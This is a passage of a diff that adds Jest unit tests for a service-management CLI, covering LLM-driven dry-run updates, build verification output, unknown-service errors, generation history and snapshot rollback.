+    
+    test('update --dry-run shows the changes without writing them', async () => {
+      const write = jest.spyOn(process.stdout, 'write').mockImplementation(() => true);
+      fs.promises.readFile.mockResolvedValueOnce(lockWith(service));
+      llm.updateService.mockResolvedValueOnce({
+        summary: 'Add a health check',
+        edits: [{ filename: 'health.go', action: 'write', content: 'ok\n' }]
+      });
+      
+      await cli.handlers.update('orders', 'Add a health check', { dryRun: true, diff: true });
+      
+      expect(log).toHaveBeenCalledWith('  created health.go');
+      expect(write).toHaveBeenCalledWith('--- /dev/null\n+++ b/health.go\n@@ -0,0 +1 @@\n+ok\n');
+      write.mockRestore();
+      expect(pipeline.syncService).not.toHaveBeenCalled();
+    });
+    
+    test('verify reports the build and test results of an existing service', async () => {
+      fs.promises.readFile.mockResolvedValueOnce(lockWith(service));
+      const verify = jest.spyOn(Verifier.prototype, 'verify').mockResolvedValueOnce({
+        language: 'go',
+        status: 'failed',
+        stages: [
+          { name: 'build', status: 'failed', command: 'go build ./...', output: 'main.go:1: syntax error' },
+          { name: 'test', status: 'skipped', reason: 'an earlier stage failed' }
+        ]
+      });
+      
+      await cli.handlers.verify('orders');
+      
+      expect(verify).toHaveBeenCalledWith('go', current);
+      expect(log).toHaveBeenCalledWith('Verification failed');
+      expect(log).toHaveBeenCalledWith('    $ go build ./...');
+      expect(log).toHaveBeenCalledWith('    main.go:1: syntax error');
+      expect(process.exitCode).toBe(1);
+      process.exitCode = undefined;
+      verify.mockRestore();
+    });
+    
+    test('update rejects unknown services', async () => {
+      await cli.handlers.update('missing', 'x', {});
+      
+      expect(error).toHaveBeenCalledWith('Unknown service: missing');
+      expect(llm.updateService).not.toHaveBeenCalled();
+    });
+    
+    test('services history marks the current generation', async () => {
+      fs.promises.readFile.mockResolvedValueOnce(lockWith({
+        ...service,
+        generation: 2,
+        history: [{ generation: 2, change: 'Add auth', summary: 'JWT middleware', createdAt: '2026-02-01T00:00:00.000Z' }]
+      }));
+      
+      await cli.handlers.servicesHistory('orders');
+      
+      const table = log.mock.calls[0][0];
+      expect(table).toMatch(/1\s+2026-01-01T00:00:00.000Z\s+initial generation/);
+      expect(table).toMatch(/2 \*\s+2026-02-01T00:00:00.000Z\s+Add auth \(JWT middleware\)/);
+    });
+    
+    test('services rollback restores a snapshot as a new generation', async () => {
+      const snapshot = { generation: 1, change: 'initial generation', files: [{ path: 'main.go', content: 'serve(8080)\n' }] };
+      fs.promises.readFile
+        .mockResolvedValueOnce(lockWith({ ...service, generation: 2, history: [{ generation: 2, change: 'Add auth' }] }))
+        .mockResolvedValueOnce(JSON.stringify(snapshot));
+      
+      await cli.handlers.servicesRollback('orders', undefined);
+      
+      expect(error).not.toHaveBeenCalled();
+      expect(fs.promises.readFile).toHaveBeenCalledWith(path.join('.polyfunc', 'history', 'orders', '1.json'), 'utf8');
+      expect(pipeline.syncService).toHaveBeenCalledWith('services/orders', current, snapshot.files);
+      const manifest = JSON.parse(written('polyfunc.lock')[1]);
+      expect(manifest.services.orders.generation).toBe(3);
+      expect(manifest.services.orders.history[1]).toEqual({
+        generation: 3,
+        change: 'rollback to generation 1',
+        createdAt: expect.any(String)
+      });
+      expect(log).toHaveBeenCalledWith('Restored orders to generation 1, recorded as generation 3');
+    });
+    
+    test('services rollback refuses generations that do not exist', async () => {
+      fs.promises.readFile.mockResolvedValueOnce(lockWith(service));
+      
+      await cli.handlers.servicesRollback('orders', undefined);
+      
+      expect(error).toHaveBeenCalledWith('Cannot roll back orders to generation 0; current generation is 1');
+      expect(pipeline.syncService).not.toHaveBeenCalled();
+    });
+  });
+});